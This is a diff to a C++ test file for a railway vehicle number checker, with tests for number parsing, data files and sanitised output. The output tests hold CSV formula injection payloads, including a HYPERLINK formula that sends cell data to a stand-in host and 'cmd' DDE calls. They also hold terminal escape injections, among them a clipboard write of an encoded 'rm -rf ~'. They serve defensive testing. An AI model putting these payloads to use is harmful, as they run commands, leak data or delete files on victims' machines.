@@ -1,6 +1,6 @@
-#include "kommandozeile/ausgabe.h"
 #include "kommandozeile/programm.h"
 #include "fuzz/ausgabepruefung.h"
+#include "kommandozeile/ausgabe.h"
 #include "version.h"
 
 #include "../nummer/testdatei.h"
@@ -39,6 +39,14 @@ std::string Utf16(std::string_view Ascii, bool GrossEndian)
   for (const char Z : Ascii)
     Bytes += GrossEndian ? std::string{'\0', Z} : std::string{Z, '\0'};
   return Bytes;
+}
+
+std::string Oft(const std::string& Text, std::size_t Anzahl)
+{
+  std::string Ergebnis;
+  for (std::size_t I = 0; I < Anzahl; ++I)
+    Ergebnis += Text;
+  return Ergebnis;
 }
 
 struct TFall {
@@ -106,29 +114,7 @@ INSTANTIATE_TEST_SUITE_P(
               0,
               "D-DB Fals RIV \342\200\223 passt zur Nummer\n  Halter:                DB \342\200\223 Deutsche Bahn / "
               "DB AG (D"},
-        TFall{"LaenderkuerzelFalsch",
-              {"31 RIV 80 A-\303\226BB 665 2 003-8 Fals"},
-              "",
-              0,
-              "L\303\244nderk\303\274rzel \342\200\236A\342\200\234 geh\303\266rt zu 81 (\303\226sterreich), die "
-              "Nummer nennt 80"},
         TFall{"StrengZaehltAbweichung", {"--streng", "31 RIV 80 A-\303\226BB 665 2 003-8 Fals"}, "", 1, "Abweichung"},
-        TFall{"HalterImAusland",
-              {"31 RIV 80 A-\303\226BB 665 2 003-8 Fals"},
-              "",
-              0,
-              "Halter \303\226BB ist in A registriert, der Wagen in 80 (Deutschland) zugelassen"},
-        TFall{"HalterNichtImRegister",
-              {"31 80 6652 003-8 D-RFC"},
-              "",
-              0,
-              "\342\200\236RFC\342\200\234 steht nicht im Halterregister (ERA-Halterliste 168"},
-        TFall{"GattungszeichenFalsch",
-              {"31 80 5330 000-6 Eanos"},
-              "",
-              0,
-              "\342\200\236Eanos\342\200\234 passt nicht zur Kennzahl 5330 (\342\200\236Eaos\342\200\234): "
-              "\342\200\236n\342\200\234 zu viel"},
         TFall{"KennzahlAbgeleitet",
               {"31800952003"},
               "",
@@ -136,28 +122,12 @@ INSTANTIATE_TEST_SUITE_P(
               "T \342\200\223 Wagen mit \303\266ffnungsf\303\244higem Dach (aus Stelle 5 abgeleitet"},
         // Triebfahrzeuge: die Baureihe nach dem Schema des Landes
         TFall{"LokDeutschland", {"91 80 6146 569-9"}, "", 0, "Baureihe:              146, Nr. 146 569\n"},
-        TFall{"LokDeutschlandDiesel", {"92 80 1218 455-4 D-DB"}, "", 0, "Baureihe:              218, Nr. 218 455\n"},
-        TFall{"LokOesterreich", {"91 81 1116 234-6"}, "", 0, "Reihe:                 1116, Nr. 1116 234"},
-        TFall{"TriebzugSchweiz", {"94 85 0511 028-8"}, "", 0, "Baureihe:              RABe 511, Nr. 511 028"},
-        TFall{"TriebzugTschechien", {"CZ-\304\214D 94 54 1 471 032-3"}, "", 0, "471, Nr. 471 032\n"},
-        TFall{"LokItalien", {"91 83 2464 563-2 I-TI"}, "", 0, "Gruppo:                464, Nr. 464 563\n"},
-        TFall{"LokPolenUnsicher",
-              {"92 51 0042037-9"},
-              "",
-              0,
-              "nicht entschl\303\274sselt: das Schema f\303\274r Polen ist zu wenig"},
         // "?" fuer unleserliche Ziffern
         TFall{"EineZifferFehlt",
               {"31 80 665? 003-8"},
               "",
               0,
               "1 g\303\274ltige Nummer\n    31 80 6652 003-8  Fals, Deutschland\n\n"},
-        TFall{"PruefzifferFehlt", {"91 80 6146 569-?"}, "", 0, "\n    91 80 6146 569-9  "},
-        TFall{"ZweiFehlenGattungZuerst",
-              {"31 80 66?? 003-8 Fals"},
-              "",
-              0,
-              "10 g\303\274ltige Nummern\n    31 80 6652 003-8  Fals"},
         TFall{"ZuVieleUnbekannt", {"3? ?? ???? 003-8"}, "", 2, "hat 7 unbekannte Ziffern"},
         // Falsche Pruefziffer: die wahre Nummer zuerst, wo die Anschrift sie stuetzt
         TFall{"ReparaturLand",
@@ -165,12 +135,18 @@ INSTANTIATE_TEST_SUITE_P(
               "",
               1,
               "zuerst):\n    31 80 6652 003-8  Stelle 4: 0 statt 1"},
-        TFall{"ReparaturGattung",
-              {"31 80 6352 003-8 Fals"},
-              "",
-              1,
-              "zuerst):\n    31 80 6652 003-8  Stelle 6: 6 statt 3"},
         TFall{"NullNeunTausch", {"73 81 8890 208-9"}, "", 0, "auch 73 81 8809 208-9 hat diese Pr\303\274fziffer"},
+        // Listen, wie Windows und zusammengehaengte Dateien sie liefern
+        TFall{"StrgZBeendetDieListe", {}, "31 80 6652 003-8\r\n\03231 80 6652 003-4\r\n", 0, "8: korrekt"},
+        TFall{"KennungEinerZweitenDatei", {}, "31 80 6652 003-8\n\357\273\27731 80 6652 003-4\n", 1, "4: falsch"},
+        TFall{"LangeUtf8ZeileZaehltZeichen", {}, Oft("\303\244", 2100) + " 31 80 6652 003-8\n", 0, "8: korrekt"},
+        TFall{"ZuLangeUtf8ZeileOhneHalbesZeichen",
+              {},
+              Oft("\303\244", 5000) + "\n",
+              2,
+              "\342\200\236" + Oft("\303\244", 60) + "\342\200\246\342\200\234 ist l\303\244nger als 4096"},
+        TFall{"FremdesZeichenUnbrauchbar", {"31 80 6652 003-8 \360\237\230\200"}, "", 2, "U+1F600"},
+        TFall{"HilfeWieUnterWindows", {"/?"}, "", 0, "Exit-Status"},
         TFall{"UnbekannteOption", {"--schnell"}, "", 2, ""}, TFall{"Hilfe", {"--hilfe"}, "", 0, "Exit-Status"},
         TFall{"Version", {"--version"}, "", 0, "(Tandrix) " TANDRIX_VERSION "\n"}),
     [](const testing::TestParamInfo<TFall>& Info) { return std::string(Info.param.Name); });
@@ -206,7 +182,8 @@ TEST(Csv, FelderWerdenNurBeiBedarfGequotet)
 struct THarmlos {
   const char* Name;
   std::string Eingabe;
-  std::string Datei;  // leer: die ausgelieferte
+  std::string Datei;             // Wagen.ebb; leer: die ausgelieferte
+  std::string Kennzeichen = {};  // Kennzeichen.ebb; leer: die ausgelieferte
 };
 
 void PrintTo(const THarmlos& Fall, std::ostream* Aus) { *Aus << Fall.Name; }
@@ -219,6 +196,8 @@ TEST_P(HarmloseAusgabe, OhneSteuerzeichenUndFormeln)
   std::vector<std::string> Vorn;
   if (!GetParam().Datei.empty())
     Vorn.push_back("--daten=" + Verzeichnis.Schreibe("Wagen.ebb", GetParam().Datei).string());
+  if (!GetParam().Kennzeichen.empty())
+    Vorn.push_back("--kennzeichen=" + Verzeichnis.Schreibe("Kennzeichen.ebb", GetParam().Kennzeichen).string());
   for (const auto& [Art, Csv, Utf8] :
        {std::tuple{"Tabelle", false, true}, std::tuple{"CSV", true, false}, std::tuple{"CSV UTF-8", true, true}}) {
     std::vector<std::string> Argumente = Vorn;
@@ -234,17 +213,21 @@ TEST_P(HarmloseAusgabe, OhneSteuerzeichenUndFormeln)
 
 INSTANTIATE_TEST_SUITE_P(
     Faelle, HarmloseAusgabe,
-    testing::Values(THarmlos{"Hyperlink", "=HYPERLINK(\"http://x.example/?\"&A1;\"Klick\")\n", ""},
-                    THarmlos{"AtFormel", "@SUM(1+1)*cmd|' /C calc'!A0\n", ""},
-                    THarmlos{"PlusVorNummer", "+31 80 6652 003-8\n", ""},
-                    THarmlos{"Minus", "-2+3+cmd|' /C calc'!A0\n", ""}, THarmlos{"Tabulator", "\t=1+1\n", ""},
-                    THarmlos{"TerminaltitelUndLoeschen", "31 80 \033]0;PWNED\007\033[2J6652 003-8\n", ""},
-                    THarmlos{"Zwischenablage", "\033]52;c;cm0gLXJmIH4=\007\n", ""},
-                    THarmlos{"Verschleiert", "31 80 6652 003-4 \033[1A\033[2K\033[8m\n", ""},
-                    THarmlos{"C1AlsUtf8", "\302\2332J \302\201 31 80 6652 003-8\n", ""},
-                    THarmlos{"Datentexte", "31 80 6652 003-8\n",
-                             "[Wagentyp]\n3=G\n[Austausch]\n31==cmd|' /C calc'!A0\033[2J\n[RIV-Merkmal]\n3=@SUM(1)\n"
-                             "[Eigentumsmerkmal]\n1=-1+1\235\n[Version]\nVersion=1\n"}),
+    testing::Values(
+        THarmlos{"Hyperlink", "=HYPERLINK(\"http://x.example/?\"&A1;\"Klick\")\n", ""},
+        THarmlos{"AtFormel", "@SUM(1+1)*cmd|' /C calc'!A0\n", ""}, THarmlos{"PlusVorNummer", "+31 80 6652 003-8\n", ""},
+        THarmlos{"Minus", "-2+3+cmd|' /C calc'!A0\n", ""}, THarmlos{"Tabulator", "\t=1+1\n", ""},
+        THarmlos{"TerminaltitelUndLoeschen", "31 80 \033]0;PWNED\007\033[2J6652 003-8\n", ""},
+        THarmlos{"Zwischenablage", "\033]52;c;cm0gLXJmIH4=\007\n", ""},
+        THarmlos{"Verschleiert", "31 80 6652 003-4 \033[1A\033[2K\033[8m\n", ""},
+        THarmlos{"C1AlsUtf8", "\302\2332J \302\201 31 80 6652 003-8\n", ""},
+        THarmlos{"Datentexte", "31 80 6652 003-8\n",
+                 "[Wagentyp]\n3=G\n[Austausch]\n31==cmd|' /C calc'!A0\033[2J\n[RIV-Merkmal]\n3=@SUM(1)\n"
+                 "[Eigentumsmerkmal]\n1=-1+1\235\n[Version]\nVersion=1\n"},
+        THarmlos{"Kennzeichentexte", "91 80 6146 569-9\n31 RIV 80 D-DB 665 2 003-8 Fals\n31 80 0??2 003-8 D-DB\n", "",
+                 "[Version]\r\nVersion=x\r\n[Laender]\r\n80=D;\033[2JDeutschland\r\n[Triebfahrzeuge]\r\n"
+                 "80-91=6;6-8;\033[2J\033[31mBaureihe;hoch\r\n[Halter]\r\nDB=D;=HYPERLINK(1);\033]0;x\007;DB\r\n"
+                 "[Kategorie]\r\n0=@SUMME;\033[1m;\235\r\n"}),
     [](const testing::TestParamInfo<THarmlos>& Info) { return std::string(Info.param.Name); });
 
 TEST(Daten, OhneDatendateiNurPruefziffern)
@@ -255,6 +238,17 @@ TEST(Daten, OhneDatendateiNurPruefziffern)
   EXPECT_EQ(Wagennummer({"31 80 6652 003-8"}, Ein, Aus, Fehler), 0);
   EXPECT_EQ(Aus.str(), "31 80 6652 003-8  Pr\303\274fziffer 8: korrekt\n\n");
   EXPECT_NE(Fehler.str().find("nur die Pr\303\274fziffern"), std::string::npos);
+}
+
+// Welche Wagenart eine Nummer ist, sagt [Wagentyp]: mit 9=G ist 91 ... ein Gueterwagen, in der
+// Tabelle wie im Fenster.
+TEST(Daten, WagenartAusDerDatendatei)
+{
+  const TTestVerzeichnis Verzeichnis;
+  const auto Datei = Verzeichnis.Schreibe("Wagen.ebb", "[Wagentyp]\n9=G\n[Version]\nVersion=1\n");
+  const TLauf L = Starte({"--daten=" + Datei.string(), "91 80 6146 569-9"});
+  EXPECT_NE(L.Aus.find("Eigentumsmerkmal:"), std::string::npos) << L.Aus;
+  EXPECT_EQ(L.Aus.find("Triebfahrzeug"), std::string::npos) << L.Aus;
 }
 
 TEST(Liste, ZehntausendNummern)
